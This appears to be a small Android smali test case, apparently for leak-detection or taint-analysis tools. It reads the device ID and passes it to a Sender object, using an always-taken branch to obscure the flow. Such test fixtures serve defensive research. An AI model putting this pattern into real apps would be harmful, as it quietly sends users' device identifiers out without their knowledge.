.class public La/Main;
.super Ljava/lang/Object;

.field static last:La/Request;

.field static sender:La/Sender;

.field static telephony:Landroid/telephony/TelephonyManager;

.method public static entry()V
    .locals 0
    invoke-static {}, La/Main;->hit()V
    return-void
.end method

.method public static hit()V
    .locals 4
    sget-object v0, La/Main;->telephony:Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    new-instance v1, La/First;
    invoke-direct {v1}, La/First;-><init>()V
    iput-object v0, v1, La/Request;->body:Ljava/lang/String;
    sput-object v1, La/Main;->last:La/Request;
    const/4 v2, 0x1
    if-nez v2, :with
    const/4 v3, 0x0
    goto :send
    :with
    sget-object v1, La/Main;->last:La/Request;
    new-instance v3, La/Sender;
    invoke-direct {v3, v1}, La/Sender;-><init>(La/Request;)V
    :send
    sput-object v3, La/Main;->sender:La/Sender;
    sget-object v3, La/Main;->sender:La/Sender;
    invoke-virtual {v3}, La/Sender;->send()V
    return-void
.end method
